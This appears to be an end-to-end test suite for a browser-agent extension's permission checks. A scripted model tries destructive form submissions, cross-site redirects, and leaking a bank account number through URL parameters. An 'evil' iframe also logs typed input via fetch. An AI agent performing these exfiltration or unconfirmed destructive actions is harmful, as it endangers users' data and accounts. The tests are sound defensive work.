/**
 * Acts that once ran unasked in auto mode, each now judged by its effect and proven through the built
 * extension in Chromium with the scripted model: an Enter, a typed newline, a redirect to another
 * site, a navigation resolved against a stale page, a fill_form spanning frames, a ref from another
 * run. Each test names what the person is shown and checks on the recording servers that nothing
 * happened without a yes.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { useExtension } from '../support/e2e.js';
import { toolResultsOf, type RecordedRequest } from '../support/mock-model-server.js';
import { resultText } from '../support/model-results.js';
import { driveTask, type Decide } from '../support/panel-driver.js';
import { refIn } from '../support/tree-lines.js';
import { startTrustSites, type TrustSites } from '../support/trust-sites.js';

const e2e = useExtension({ mock: true });
let sites: TrustSites;

const deny: Decide = () => 'Deny';
const allow: Decide = () => 'Allow once';
const last = (request: RecordedRequest) => toolResultsOf(request).at(-1)?.text ?? '';

const DELETE_PAGE = `<!doctype html><meta charset="utf-8"><title>Account</title><h1>Account settings</h1>
<form method="post" action="/account/delete" aria-label="Delete account">
  <label>Type DELETE to confirm <input name="confirm"></label>
  <button>Continue</button>
</form>`;

const openTab = (url: string) => e2e.open(url);

beforeAll(async () => {
  sites = await startTrustSites();
});
afterAll(async () => {
  await sites?.close();
});
beforeEach(async () => {
  sites.reset();
  await e2e.ext.setSettings(e2e.settings);
});

describe('keys are judged by what they do', () => {
  it('Enter in a field of the "Delete account" form asks in auto mode, saying what it submits; denied, nothing is posted', async () => {
    const { tabId } = await openTab(sites.site.page('enter', DELETE_PAGE));
    let field = '';
    e2e.mock.enqueue(
      { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
      (request) => (
        (field = refIn(last(request), 'textbox "Type DELETE to confirm"')),
        { toolCalls: [{ id: 'enter', name: 'press_key', input: { key: 'Return', ref: field } }] }
      ),
      // Then: focus the field, and Enter with no ref (the judge reads what has the focus).
      () => ({ toolCalls: [{ id: 'focus', name: 'click', input: { ref: field } }] }),
      { toolCalls: [{ id: 'enter2', name: 'press_key', input: { key: 'Enter' } }] },
      { text: 'Finished enter.' },
    );
    const panel = await e2e.panel(tabId);
    const prompts = await driveTask(panel, 'Tidy up my settings.', { decide: deny, finished: 'Finished enter.' });
    expect(prompts.map((p) => [p.tool, p.flagged])).toEqual([
      ['press_key', true],
      ['press_key', true],
    ]);
    for (const prompt of prompts) expect(prompt.text).toContain('submits the form “Delete account” (POST /account/delete)');
    expect(resultText(e2e.mock, 'focus').isError).toBe(false);
    expect(sites.site.requests.filter((r) => r.url.startsWith('/account/delete'))).toEqual([]);
  });

  it('a typed newline and submit: true are the same Enter; allowed once, the form really posts', async () => {
    const { tabId } = await openTab(sites.site.page('newline', DELETE_PAGE));
    let field = '';
    e2e.mock.enqueue(
      { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
      (request) => (
        (field = refIn(last(request), 'textbox "Type DELETE to confirm"')),
        { toolCalls: [{ id: 'nl', name: 'type', input: { ref: field, text: 'DELETE\n' } }] }
      ),
      () => ({ toolCalls: [{ id: 'submit', name: 'type', input: { ref: field, text: 'DELETE', submit: true } }] }),
      { text: 'Finished newline.' },
    );
    const panel = await e2e.panel(tabId);
    const answers: Array<ReturnType<Decide>> = ['Deny', 'Allow once'];
    const prompts = await driveTask(panel, 'Tidy up my settings.', { decide: () => answers.shift() ?? 'Deny', finished: 'Finished newline.' });
    expect(prompts.map((p) => [p.tool, p.flagged, p.answer])).toEqual([
      ['type', true, 'Deny'],
      ['type', true, 'Allow once'],
    ]);
    expect(prompts[0]?.text).toContain('types “DELETE⏎” into textbox “Type DELETE to confirm”; then Enter in textbox');
    expect(prompts[0]?.text).toContain('TextDELETE⏎');
    await expect
      .poll(() => sites.site.requests.filter((r) => r.method === 'POST' && r.url === '/account/delete').map((r) => r.body))
      .toEqual(['confirm=DELETE']);
  });
});

describe('navigations are judged on where they land', () => {
  it('a same-site address that redirects to another site is stopped before the request leaves; the tab stays', async () => {
    const { page, tabId } = await openTab(sites.site.page('home', '<!doctype html><title>Home</title><h1>Home</h1>'));
    // The stopped call ends with the tab back on Home, not with Home still loading: the page's answer to
    // its second load (the tab taken back) is held until the model is asked again, or for 3 s. The model
    // is asked only after Home was served.
    const order: string[] = [];
    let modelAsked!: () => void;
    const asked = new Promise<void>((resolve) => (modelAsked = resolve));
    sites.site.hold(
      'home',
      Promise.race([asked, new Promise((resolve) => setTimeout(resolve, 3_000))]).then(() => order.push('Home served again')),
    );
    e2e.mock.enqueue({ toolCalls: [{ id: 'go', name: 'navigate', input: { url: '/out/hello' } }] }, () => {
      order.push('model asked');
      modelAsked();
      return { text: 'Finished redirect.' };
    });
    const panel = await e2e.panel(tabId);
    const prompts = await driveTask(panel, 'Open the outgoing link.', { decide: deny, finished: 'Finished redirect.' });
    expect(prompts).toEqual([]);
    expect(order).toEqual(['Home served again', 'model asked']);
    const result = resultText(e2e.mock, 'go');
    expect(result.isError).toBe(true);
    expect(JSON.parse(result.text).error).toMatchObject({ code: 'LANDING_BLOCKED', message: expect.stringContaining(new URL(sites.evil.origin).host) });
    expect(sites.site.requests.some((r) => r.url === '/out/hello')).toBe(true);
    expect(sites.evil.requests).toEqual([]);
    await expect.poll(() => page.url()).toBe(`${sites.site.origin}/p/home`);
  });

  it('an address carrying another site’s address asks (an open redirect); approved, it lands there', async () => {
    const { tabId } = await openTab(sites.site.page('home2', '<!doctype html><title>Home</title><h1>Home</h1>'));
    const target = `${sites.evil.origin}/landing`;
    e2e.mock.enqueue(
      { toolCalls: [{ id: 'go', name: 'navigate', input: { url: `/redirect?to=${encodeURIComponent(target)}` } }] },
      { text: 'Finished open redirect.' },
    );
    const panel = await e2e.panel(tabId);
    const prompts = await driveTask(panel, 'Follow the redirect.', { decide: allow, finished: 'Finished open redirect.' });
    expect(prompts).toMatchObject([{ tool: 'navigate', flagged: true, text: expect.stringContaining('a redirect on the site may forward the tab there') }]);
    expect(resultText(e2e.mock, 'go').text).toContain(`Loaded ${target}`);
  });

  it('"same site" is where the tab is now: after a click to another site, a relative address resolves there, and carrying that page’s data back asks', async () => {
    const secret = 'ACCT-7731-2290-5512';
    const bankUrl = sites.bank.page('statement', `<!doctype html><title>Statement</title><h1>Statement</h1><p>Account ${secret}</p>`);
    const { tabId } = await openTab(sites.site.page('links', `<!doctype html><title>Links</title><a href="${bankUrl}">My bank</a>`));
    e2e.mock.enqueue(
      { toolCalls: [{ id: 'read', name: 'read_page', input: {} }] },
      (request) => ({ toolCalls: [{ id: 'click', name: 'click', input: { ref: refIn(last(request), 'link "My bank"') } }] }),
      { toolCalls: [{ id: 'text', name: 'get_page_text', input: { main_content: false } }] },
      (request) => ({ toolCalls: [{ id: 'rel', name: 'navigate', input: { url: `/c?d=${/ACCT-[\d-]+/.exec(last(request))?.[0] ?? ''}` } }] }),
      { toolCalls: [{ id: 'away', name: 'navigate', input: { url: `${sites.site.origin}/c?d=${secret}` } }] },
      { text: 'Finished stale.' },
    );
    const panel = await e2e.panel(tabId);
    const answers: Array<ReturnType<Decide>> = ['Allow once', 'Deny'];
    const prompts = await driveTask(panel, 'Check my statement.', { decide: () => answers.shift() ?? 'Deny', finished: 'Finished stale.' });
    // Clicking a link to another site asks; the relative address lands on the bank, its own data; going back with it asks and shows it.
    expect(prompts.map((p) => [p.tool, p.flagged])).toEqual([
      ['click', true],
      ['navigate', true],
    ]);
    expect(prompts[1]?.text).toContain(`read on ${sites.bank.origin}`);
    expect(prompts[1]?.text).toContain(secret.toLowerCase());
    expect(resultText(e2e.mock, 'rel').text).toContain(`Loaded ${sites.bank.origin}/c?d=${secret}`);
    expect(sites.site.received(secret)).toBe(false);
  });
});

describe('frames and runs', () => {
  it('fill_form across the page and a frame of another site asks in auto mode; a deny rule on the page’s site is not dodged by the frame', async () => {
    sites.evil.page(
      'frame',
      `<!doctype html><title>Ad</title><label>Your e-mail <input name="ad" oninput="fetch('/log?v='+encodeURIComponent(this.value))"></label>`,
    );
    const { tabId } = await openTab(
      sites.site.page(
        'framed',
        `<!doctype html><title>Form</title><label>Name <input name="n"></label><iframe src="{{EVIL}}/p/frame" width="400" height="120"></iframe>`,
      ),
    );
    const script = () => {
      let refs: string[] = [];
      return [
        { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
        (request: RecordedRequest) => (
          (refs = [refIn(last(request), 'textbox "Name"'), refIn(last(request), 'textbox "Your e-mail"')]),
          {
            toolCalls: [
              {
                id: 'fill',
                name: 'fill_form',
                input: {
                  fields: [
                    { ref: refs[1], value: 'ada@site.test' },
                    { ref: refs[0], value: 'Ada' },
                  ],
                },
              },
            ],
          }
        ),
        { text: 'Finished frames.' },
      ];
    };
    e2e.mock.enqueue(...script());
    let panel = await e2e.panel(tabId);
    const prompts = await driveTask(panel, 'Fill in my name.', { decide: deny, finished: 'Finished frames.' });
    expect(prompts).toMatchObject([{ tool: 'fill_form', flagged: true, text: expect.stringContaining('across 2 sites') }]);
    expect(sites.evil.received('ada@site.test')).toBe(false);

    await e2e.ext.setSettings({
      ...e2e.settings,
      rules: { allow: ['fill_form'], deny: [`fill_form(${new URL(sites.site.origin).host})`], ask: [] },
    });
    e2e.mock.reset();
    e2e.mock.enqueue(...script());
    await panel.close();
    panel = await e2e.panel(tabId);
    expect(await driveTask(panel, 'Fill in my name.', { decide: allow, finished: 'Finished frames.' })).toEqual([]);
    expect(JSON.parse(resultText(e2e.mock, 'fill').text).error).toMatchObject({
      code: 'PERMISSION_DENIED',
      message: expect.stringContaining('blocked by the rule'),
    });
  });

  it('a ref from an earlier run is STALE_REF: the new run must read the page first', async () => {
    const { tabId } = await openTab(sites.site.page('refs', '<!doctype html><title>Refs</title><button>Save</button>'));
    let saved = '';
    e2e.mock.enqueue(
      { toolCalls: [{ id: 'read', name: 'read_page', input: {} }] },
      (request) => ((saved = refIn(last(request), 'button "Save"')), { text: 'Finished first.' }),
    );
    const panel = await e2e.panel(tabId);
    await driveTask(panel, 'Look.', { decide: allow, finished: 'Finished first.' });
    e2e.mock.enqueue(() => ({ toolCalls: [{ id: 'old', name: 'click', input: { ref: saved } }] }), { text: 'Finished second.' });
    await driveTask(panel, 'Click save.', { decide: allow, finished: 'Finished second.' });
    expect(JSON.parse(resultText(e2e.mock, 'old').text).error).toMatchObject({ code: 'STALE_REF', message: expect.stringContaining('earlier task') });
  });
});

describe('the activity log', () => {
  it('lists what changed and who allowed it, and exports it', async () => {
    const { tabId } = await openTab(sites.site.page('todo', '<!doctype html><title>Todo</title><label>New item <input id="t"></label>'));
    e2e.mock.enqueue(
      { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
      (request) => ({ toolCalls: [{ id: 'typed', name: 'type', input: { ref: refIn(last(request), 'textbox "New item"'), text: 'buy milk' } }] }),
      { text: 'Finished log.' },
    );
    const panel = await e2e.panel(tabId);
    await driveTask(panel, 'Add buy milk.', { decide: allow, finished: 'Finished log.' });
    await panel.getByRole('button', { name: 'Activity' }).click();
    const row = panel.locator('.activity-card');
    await expect.poll(() => row.count()).toBe(1);
    expect(await row.getAttribute('data-tool')).toBe('type');
    expect((await row.locator(':scope > p').allTextContents()).join(' ').replace(/\s+/g, ' ')).toMatch(
      /127\.0\.0\.1.*Typed “buy milk” into “New item”.*auto mode/,
    );
    const [download] = await Promise.all([panel.waitForEvent('download'), panel.getByRole('button', { name: 'Export CSV' }).click()]);
    const csv = await (await download.createReadStream()).toArray().then((chunks) => Buffer.concat(chunks).toString('utf8'));
    expect(csv.split('\r\n')[0]).toBe('at,site,tool,did,status,outcome,allowedBy,askedBy,conversationId,runId,toolUseId');
    expect(csv).toContain('"type"');
    expect(csv).toContain('"auto mode"');
  });
});
